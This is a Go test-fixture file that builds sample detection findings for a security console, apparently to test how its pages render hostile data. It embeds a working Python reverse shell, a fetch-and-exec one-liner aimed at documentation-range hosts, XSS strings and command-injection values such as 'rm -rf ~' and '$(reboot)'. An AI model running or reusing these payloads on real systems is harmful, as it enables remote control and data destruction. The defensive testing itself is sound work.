// Package consoletest holds made-up findings for looking at the console, and
// the tests of its pages in a headless browser.
//
// Everything here is inert: addresses are from the ranges reserved for
// documentation, and no text does anything when run.
package consoletest

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"
	"time"

	"kingsnake/console"
	"kingsnake/finding"
)

// Now is the time at which the samples are looked at.
var Now = time.Date(2026, 11, 23, 14, 30, 0, 0, time.UTC)

const shellScript = `#!/usr/bin/env python3
# Keep the session alive between deployments.
import base64
import os
import socket
import subprocess

HOST = "192.0.2.1"
PORT = 4444


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    return subprocess.call(["/bin/sh", "-i"])


stage = base64.b64decode(
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0LCBvcwpvcy5ta2Rpcih7IiI6ICIvZGV2L25vbmUifVsiIl0p"
    "CnVybGxpYi5yZXF1ZXN0LnVybHJldHJpZXZlKCJodHRwOi8vZXhhbXBsZS5jb20vYSIsICIvdG1w"
    "Ly5hIikKb3MuY2htb2QoIi90bXAvLmEiLCAwbzc1NSk="
)
exec(stage)
connect()
`

const shellLayer = `import urllib.request, os
os.mkdir({"": "/dev/none"}[""])
urllib.request.urlretrieve("http://example.com/a", "/tmp/.a")
os.chmod("/tmp/.a", 0o755)`

const commandScript = `import urllib.request;exec(urllib.request.urlopen("http://203.0.113.7/stage").read())`

const hash = "9f1c3a5e7b2d4f60819a3c5e7d9fb1c3a5e7092b4d6f80a1c3e5072941b6d8fa"

// sum is the hexadecimal SHA-256 of text.
func sum(text []byte) string {
	s := sha256.Sum256(text)
	return hex.EncodeToString(s[:])
}

// at is the span of needle in text, with its lines.
func at(layer int, text, needle string) finding.Span {
	i := strings.Index(text, needle)
	if i < 0 {
		panic("consoletest: no " + needle)
	}
	line := 1 + strings.Count(text[:i], "\n")
	return finding.Span{Layer: layer, Start: i, End: i + len(needle), Line: line, EndLine: line + strings.Count(needle, "\n")}
}

// finish fills in what follows from the rest.
func finish(f finding.Finding) finding.Finding {
	if f.Category == "" {
		f.Category, f.Verdict.Model = finding.MaliciousPython, hash
	}
	if f.Script.SHA256 == "" {
		f.Script.SHA256, f.Script.Size = sum(f.Script.Contents), int64(len(f.Script.Contents))
	}
	f.Script.ContentsSHA256 = sum(f.Script.Contents)
	f.Name = finding.NameOf(f.Category, f.Script.Kind, f.Script.SHA256, f.Workload.Key(f.Process.Exe))
	f.Occurrence = finding.OccurrenceOf(f.Workload.Node, f.Process.PID, f.EventTime, f.Script.Kind, f.Script.SHA256)
	f.FirstTime, f.Sensor = f.EventTime, f.Workload.Node
	return f
}

// Shell is the finding every part of the page has something to show for: a
// script file written at run time in a pod.
func Shell() finding.Finding {
	split := strings.Index(shellScript, `"aW1w`)
	blob := shellScript[split : strings.Index(shellScript, ")\nexec")-1]
	fromBlob := func(needle string) finding.Span {
		s, origin := at(1, shellLayer, needle), at(0, shellScript, blob)
		s.Line, s.EndLine = origin.Line, origin.EndLine
		return s
	}
	return finish(finding.Finding{
		Severity: finding.Critical, State: finding.Active, EventTime: Now.Add(-3 * time.Minute),
		Script: finding.Script{
			Kind: "file", Path: "/tmp/.cache/session.py", Contents: []byte(shellScript),
			Origin: finding.Origin{When: "runtime", Why: "the file was written or changed 19h14m0s after the container was created",
				Changed: Now.Add(-4 * time.Minute)},
			Layers: []finding.Layer{{Transform: "base64", Text: []byte(shellLayer), Size: len(shellLayer)}},
		},
		Verdict: finding.Verdict{Label: "malicious", Score: 0.99971, Reasons: []finding.Reason{
			{Text: "It gives a network connection control of a shell.", Technique: "T1059.004", Weight: 4.31, Spans: []finding.Span{
				at(0, shellScript, "s.connect((HOST, PORT))"), at(0, shellScript, "os.dup2(s.fileno(), fd)"), at(0, shellScript, `subprocess.call(["/bin/sh", "-i"])`)}},
			{Text: "It decodes text and runs it as code.", Technique: "T1140", Weight: 2.87, Spans: []finding.Span{
				at(0, shellScript, "base64.b64decode("), at(0, shellScript, "exec(stage)")}},
			{Text: "It downloads a file, makes it executable and hides its name.", Technique: "T1105", Weight: 1.95, Spans: []finding.Span{
				fromBlob(`urllib.request.urlretrieve("http://example.com/a", "/tmp/.a")`), fromBlob(`os.chmod("/tmp/.a", 0o755)`)}},
			{Text: "Its words together look like those of programs that control machines from afar.", Weight: 0.62},
		}},
		Process: finding.Process{
			PID: 48213, PPID: 48207, Start: Now.Add(-3 * time.Minute), UID: 0, Comm: "python3", Exe: "/usr/local/bin/python3.12",
			Cwd: "/srv/app", Args: []string{"python3", "/tmp/.cache/session.py", "--interval", "30", ""},
			Env:       []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/root", "SHOP_DB_PASSWORD=[redacted]", "LANG=C.UTF-8"},
			ExeSHA256: sum([]byte("python")), ExeSize: 6_831_736,
			Parents: []finding.Process{
				{PID: 48207, Comm: "sh", Exe: "/bin/dash", Args: []string{"sh", "-c", "python3 /tmp/.cache/session.py --interval 30 &"}},
				{PID: 39, Comm: "gunicorn: worke", Exe: "/usr/local/bin/python3.12", Args: []string{"gunicorn: worker [shop.wsgi]"}},
				{PID: 1, Comm: "gunicorn", Exe: "/usr/local/bin/python3.12", Args: []string{"/usr/local/bin/python3", "/usr/local/bin/gunicorn", "shop.wsgi", "--bind", "0.0.0.0:8000"}},
			},
		},
		Workload: finding.Workload{
			ContainerID: hash, ContainerName: "web", ContainerCreated: Now.Add(-19 * time.Hour),
			Image: "registry.example.com/shop/web:1.4.2", ImageID: "sha256:" + hash, Runtime: "containerd", ReadOnlyRoot: "no",
			PodNamespace: "shop", PodName: "web-7c966b5d85-wvtln", PodUID: "0d7c41a6-2f0e-4a43-9a2d-5d1c6f3f7a11",
			PodLabels:      map[string]string{"app": "web", "pod-template-hash": "7c966b5d85"},
			ServiceAccount: "web", OwnerGroup: "apps", OwnerKind: "Deployment", OwnerName: "web",
			Owners: []finding.Owner{{Group: "apps", Kind: "ReplicaSet", Name: "web-7c966b5d85"}, {Group: "apps", Kind: "Deployment", Name: "web"}},
			Contacts: []finding.Contact{
				{Key: "kingsnake.dev/contact", Value: "shop-team@example.com", Of: "Deployment"}, {Key: "a8r.io/chat", Value: "#shop", Of: "pod"},
			},
			Node: "node-a1", Cluster: "prod-1", ClusterUID: "6b1b1c52-8f7e-4d53-9d0e-1f6c1f0a9c11",
			Cloud: finding.Cloud{Provider: "aws", Zone: "eu-central-1b", InstanceID: "i-0123456789abcdef0"},
		},
		Indicators: finding.Indicators{IPs: []string{"192.0.2.1"}, Domains: []string{"example.com"}, URLs: []string{"http://example.com/a"}},
	})
}

// Command is code given with -c, in a container without Kubernetes.
func Command() finding.Finding {
	return finish(finding.Finding{
		Severity: finding.Critical, State: finding.Active, EventTime: Now.Add(-2 * time.Hour),
		Script: finding.Script{Kind: "c", Contents: []byte(commandScript),
			Origin: finding.Origin{When: "argument", Why: "the text was an argument of the command line; there is no file"}},
		Verdict: finding.Verdict{Label: "malicious", Score: 0.9962, Reasons: []finding.Reason{
			{Text: "It downloads text and runs it as code.", Technique: "T1105", Weight: 3.9, Spans: []finding.Span{at(0, commandScript, commandScript[22:])}}}},
		Process: finding.Process{PID: 911, PPID: 900, Start: Now.Add(-2 * time.Hour), UID: 1000, Comm: "python3", Exe: "/usr/bin/python3.11",
			Cwd: "/", Args: []string{"python3", "-c", commandScript}, ExeUnread: "the file was gone before it could be read",
			Parents: []finding.Process{{PID: 900, Comm: "bash", Exe: "/usr/bin/bash", Args: []string{"-bash"}}}},
		Workload: finding.Workload{ContainerID: sum([]byte("builder")), ContainerName: "builder", Image: "registry.example.com/ci/builder:latest",
			Runtime: "containerd", Node: "node-b2", Unresolved: map[string]string{"container.created": "the runtime did not answer in time"}},
		Indicators: finding.Indicators{IPs: []string{"203.0.113.7"}, URLs: []string{"http://203.0.113.7/stage"}},
	})
}

// Compiled is a text that the script of Shell compiled while it ran.
func Compiled() finding.Finding {
	shell := Shell()
	text := "import subprocess\nsubprocess.call(['/bin/sh', '-c', 'id'])  # 192.0.2.9\n"
	shell.Script = finding.Script{Kind: "compiled", Contents: []byte(text), Parent: shell.Script.SHA256,
		CompiledBy: finding.Compiler{Kind: "file", Path: shell.Script.Path, SHA256: shell.Script.SHA256, Size: shell.Script.Size},
		Origin:     finding.Origin{When: "memory", Why: "the text was compiled at run time; there is no file"},
		Layers:     []finding.Layer{{Transform: finding.CompilerLayer, Text: []byte(shellScript), Size: len(shellScript)}},
	}
	shell.Verdict = finding.Verdict{Label: "malicious", Score: 0.9981, Reasons: []finding.Reason{
		{Text: "It starts a shell.", Technique: "T1059.004", Weight: 2.4, Spans: []finding.Span{at(0, text, "subprocess.call")}}}}
	shell.Indicators = finding.Indicators{}
	return finish(shell)
}

// Program is a shell on a connection, in a pod: a finding without a script.
func Program() finding.Finding {
	shell := Shell()
	python := shell.Process
	python.Parents, python.Env = nil, nil
	return finish(finding.Finding{
		Category: finding.ReverseShell, Severity: finding.Critical, State: finding.Active, EventTime: Now.Add(-170 * time.Second),
		Script: finding.Script{Kind: finding.Program, Path: "/bin/dash", Size: 125_640, Parent: shell.Script.SHA256,
			SHA256: finding.ProgramDigest(finding.ReverseShell, "/bin/dash", python.Exe),
			Origin: finding.Origin{When: "image", Why: "the file was last changed 94h0m0s before the container was created, and lies on its image",
				Changed: Now.Add(-113 * time.Hour)}},
		Verdict: finding.Verdict{Label: "malicious", Reasons: []finding.Reason{
			{Text: "The standard input of this shell is a connection with 192.0.2.1:4444.", Technique: "T1059.004", Weight: 1}}},
		Process: finding.Process{PID: 48219, PPID: 48213, Start: Now.Add(-170 * time.Second), Comm: "sh", Exe: "/bin/dash", Cwd: "/srv/app",
			Args: []string{"/bin/sh", "-i"}, Env: shell.Process.Env, ExeSHA256: sum([]byte("dash")), ExeSize: 125_640,
			Parents: append([]finding.Process{python}, shell.Process.Parents...)},
		Workload:    shell.Workload,
		Indicators:  finding.Indicators{IPs: []string{"192.0.2.1"}, Ports: []string{"192.0.2.1:4444"}},
		Connections: []finding.Connection{{Local: "10.1.2.3:51234", Peer: "192.0.2.1:4444"}},
		Timeline: []finding.Event{
			{Time: Now.Add(-169 * time.Second), PID: 48219, Exe: "/bin/dash", Act: "forked", Target: "48220", Count: 1},
			{Time: Now.Add(-169 * time.Second), PID: 48220, Exe: "/bin/dash", Act: "executed", Target: "/usr/bin/id", Args: []string{"id"}, Count: 1},
			{Time: Now.Add(-150 * time.Second), PID: 48221, Exe: "/usr/bin/curl", Act: "connected", Target: "192.0.2.9:80", Count: 2},
			{Time: Now.Add(-150 * time.Second), PID: 48221, Exe: "/usr/bin/curl", Act: "wrote", Target: "/tmp/.a", Count: 1},
		},
		TimelineOmitted: 3,
	})
}

// Stdin is code from standard input, on a host.
func Stdin() finding.Finding {
	text := "import os\nfor name in sorted(os.environ):\n    print(name)\n"
	return finish(finding.Finding{
		Severity: finding.Medium, State: finding.Active, EventTime: Now.Add(-26 * time.Hour),
		Script: finding.Script{Kind: "stdin", Contents: []byte(text),
			Origin: finding.Origin{When: "stream", Why: "the text came through a pipe; there is no file"}},
		Verdict: finding.Verdict{Label: "suspicious", Score: 0.714, Reasons: []finding.Reason{
			{Text: "It reads the whole environment, where secrets are often kept.", Technique: "T1082", Weight: 1.1, Spans: []finding.Span{at(0, text, "os.environ")}}}},
		Process: finding.Process{PID: 77, PPID: 70, Start: Now.Add(-26 * time.Hour), UID: 0, Comm: "python3", Exe: "/usr/bin/python3.11", Cwd: "/root",
			Args: []string{"python3", "-"}, ExeSHA256: sum([]byte("python 3.11")), ExeSize: 6_831_736},
		Workload: finding.Workload{Node: "node-b2"},
	})
}

// Hostile is a finding in which every text tries to harm or mislead whoever
// looks at it.
func Hostile() finding.Finding {
	const attack = `<script>alert(1)</script><img src=http://198.51.100.9/x onerror=alert(2)>{{.}}{{template "main"}}` +
		"</textarea></title>\u202Egnp.py\u2066\u200B\u00AD\x1b[2J\x00\xff\xfe\r\n\t'\";--javascript:alert(3)"
	text := []byte("# " + attack + "\n" +
		"user = \"admin\u202E \u2066# only for administrators\u2069 \u2066\"\n" +
		"x = '" + strings.Repeat("A", 500_000) + attack + strings.Repeat("é", 200_000) + "'\n" +
		"\x00\x01\x7f\xc3\x28\xf0\x9f\x92\n" + "e" + strings.Repeat("\u0301", 400) + "\n" + "שלום עולם = 1\n" +
		strings.Repeat("print('filler')\n", 900) + attack + "\n")
	text = text[:min(len(text), 1<<20)]
	middle := bytes.Index(text[1000:], []byte("<script>")) + 1000
	return finish(finding.Finding{
		Severity: finding.Critical, State: finding.Active, EventTime: Now.Add(-40 * time.Minute),
		Script: finding.Script{Kind: "file", Path: "/tmp/" + attack + ".py", Contents: text, Truncated: true, Redacted: 2, Lost: "ring full " + attack,
			SHA256: strings.Repeat("ab", 32), Size: 9 << 20,
			Origin: finding.Origin{When: "runtime", Why: attack, Changed: Now.Add(-time.Hour)}, LayersOmitted: 3,
			Layers: []finding.Layer{{Transform: attack, Text: text[:5000], Size: 1 << 20}, {Transform: "zlib", Parent: 99, Text: []byte(attack), Size: len(attack)}}},
		Verdict: finding.Verdict{Label: "malicious", Score: 1, Reasons: []finding.Reason{
			{Text: attack, Technique: "javascript:alert(4)", Weight: 9, Spans: []finding.Span{
				{Start: middle, End: middle + 40}, {Start: -5, End: 1 << 40}, {Layer: -3, Start: 1, End: 2}, {Layer: 77, Start: 3, End: 9, Line: 1 << 40, EndLine: 1 << 50}, {Layer: 1, Start: 9, End: 3}}},
			{Text: "T", Technique: "T1059/../../x", Weight: -1, Spans: []finding.Span{{Layer: 1, Start: 2, End: 60}}},
		}},
		Process: finding.Process{PID: -1, Comm: attack, Exe: "/usr/bin/" + attack, Cwd: attack, Args: []string{attack, strings.Repeat("B", 1<<20)}, ArgsTruncated: true,
			Env: []string{"A=" + attack, "\xff=\xfe"}, EnvTruncated: true, ExeSHA256: attack,
			Parents: []finding.Process{{PID: 1 << 30, Comm: attack, Exe: attack, Args: []string{attack}}}},
		Connections: []finding.Connection{{Local: attack, Peer: attack}}, TimelineOmitted: 1 << 40,
		Timeline: []finding.Event{{Time: Now, PID: -1, Exe: attack, Act: attack, Target: attack, Args: []string{attack, ""}, Count: 1 << 60}},
		Workload: finding.Workload{ContainerID: attack, ContainerName: "c; rm -rf ~ #" + attack, Image: attack, ImageID: attack, Runtime: attack, ReadOnlyRoot: attack,
			PodNamespace: "ns$(reboot)", PodName: "pod`reboot`" + attack, PodUID: attack, PodLabels: map[string]string{attack: attack},
			OwnerGroup: attack, OwnerKind: attack, OwnerName: attack, OwnerInferred: true, Owners: []finding.Owner{{Kind: attack, Name: attack}, {Group: attack, Kind: attack, Name: attack}},
			ServiceAccount: attack, ContainerKind: attack, StaticPod: true, Contacts: []finding.Contact{{Key: attack, Value: attack, Of: attack}},
			ClusterUID: attack, Cloud: finding.Cloud{Provider: attack, Project: attack, Zone: attack, InstanceID: attack, Location: attack},
			Node: "node\"' " + attack, Cluster: attack, Unresolved: map[string]string{"cluster": attack, "pod.uid": attack}},
		Indicators: finding.Indicators{URLs: []string{"javascript:alert(5)", attack}},
	})
}

// Many returns n further findings of all sorts, spread over a month, always the
// same ones.
func Many(n int) []finding.Finding {
	out := make([]finding.Finding, 0, n)
	seed := uint64(1)
	next := func(below int) int { // xorshift
		seed ^= seed << 13
		seed ^= seed >> 7
		seed ^= seed << 17
		return int(seed % uint64(below))
	}
	pick := func(of ...string) string { return of[next(len(of))] }
	for i := range n {
		f := Stdin()
		f.Script.Contents = fmt.Appendf(nil, "import os\nprint(%d)\n", i)
		f.Script.SHA256 = ""
		f.Script.Kind = pick("file", "file", "c", "stdin", "import", "module")
		if f.Script.Kind == "file" || f.Script.Kind == "import" {
			f.Script.Path = pick("/tmp/", "/app/", "/usr/lib/python3/dist-packages/jobs/", "/dev/shm/") + pick("run", "setup", "sync", "update", "agent") + fmt.Sprintf("-%d.py", i)
		}
		f.Severity, f.Verdict.Label, f.Verdict.Score = finding.Medium, "suspicious", 0.6+float64(next(300))/1000
		if next(5) == 0 {
			f.Severity, f.Verdict.Label, f.Verdict.Score = finding.Critical, "malicious", 0.99+float64(next(99))/10000
		}
		f.Verdict.Reasons = []finding.Reason{{Weight: 1.5, Technique: "T1105", Text: pick(
			"It downloads text and runs it as code.", "It reads files in which secrets are kept.", "It looks for other machines to reach.",
			"It decodes text and runs it as code.", "It starts itself again when the machine does.")}}
		if next(4) != 0 {
			ns := pick("shop", "payments", "batch", "monitoring", "default")
			app := pick("web", "worker", "scheduler", "exporter")
			f.Workload = finding.Workload{ContainerID: sum(fmt.Append(nil, i)), ContainerName: app, Image: "registry.example.com/" + ns + "/" + app + ":1." + fmt.Sprint(next(9)),
				PodNamespace: ns, PodName: fmt.Sprintf("%s-%06x-%05x", app, next(1<<24), next(1<<20)), Runtime: "containerd", Cluster: "prod-1"}
		}
		f.Workload.Node = fmt.Sprintf("node-%c%d", 'a'+next(3), next(4))
		f.Process.PID = 1000 + i
		f.EventTime = Now.Add(-time.Duration(next(30*24*60)) * time.Minute)
		out = append(out, finish(f))
	}
	return out
}

// otherHash is a model's that is not in use.
const otherHash = "77aa01c2d3e4f5061728394a5b6c7d8e9fa0b1c2d3e4f5061728394a5b6c7d8e"

// Models are the models of the process that serves the samples: one of a file,
// pinned, with others before it, refused files and a shadow.
func Models() console.Models {
	inside := console.Model{Hash: strings.Repeat("0123456789abcdef", 4), Embedded: true, Since: Now.Add(-900 * time.Hour), Suspicious: 0.71, Malicious: 0.99873}
	fromFile := console.Model{
		Hash: hash, File: "/etc/kingsnake/model.signed", Signer: "detection 2026", Key: "5c1de8a9b0f32d47", Signed: Now.Add(-200 * time.Hour),
		Note: "our own code of February on top", Size: 381_219, Since: Now.Add(-170 * time.Hour), Kept: true, Suspicious: 0.8125, Malicious: 0.999912,
	}
	gone, before, shadow := fromFile, fromFile, fromFile
	gone.Hash, gone.Kept, gone.Note, gone.Since = strings.Repeat("beef", 16), false, "", Now.Add(-700*time.Hour)
	before.Hash, before.Note, before.Since = strings.Repeat("f00d", 16), "", Now.Add(-400*time.Hour)
	shadow.Hash, shadow.File, shadow.Note, shadow.Since = otherHash, "/etc/kingsnake/next.signed", "March; adds notebooks\u202e", Now.Add(-20*time.Hour)
	m := console.Models{
		File: fromFile.File, Pinned: true, Current: fromFile, History: []console.Model{before, gone, inside},
		Problem:    "model 3f2a91c04b77 was chosen, and cannot be taken: not trusted: it is signed by \"somebody\", key 0badc0de0badc0de, and trusted are 5c1de8a9b0f32d47 (detection 2026)",
		ShadowFile: shadow.File, Shadow: &shadow, Compared: console.Comparison{Since: Now.Add(-20 * time.Hour), Judged: 41_207, Higher: 2, Lower: 1, Dropped: 17},
		Refused:  []console.Refusal{{File: fromFile.File, Why: "not signed: it does not begin with \"kingsnake signed model 1\"; sign a model with \"kingsnake model sign\"", Time: Now.Add(-3 * time.Hour)}},
		Refusals: 4,
	}
	for i, d := range []console.Difference{
		{Kind: "file", Label: "benign", Score: 0.0712, ShadowLabel: "malicious", ShadowScore: 0.999981},
		{Kind: "c", Label: "suspicious", Score: 0.9, ShadowLabel: "benign", ShadowScore: 0.3},
		{Kind: "stdin", Label: "benign", Score: 0.5, ShadowLabel: "suspicious", ShadowScore: 0.82},
	} {
		d.Time, d.SHA256, d.Model, d.Shadow = Now.Add(-time.Duration(i+1)*time.Hour), Shell().Script.SHA256, hash, otherHash
		m.Differences = append(m.Differences, d)
	}
	return m
}
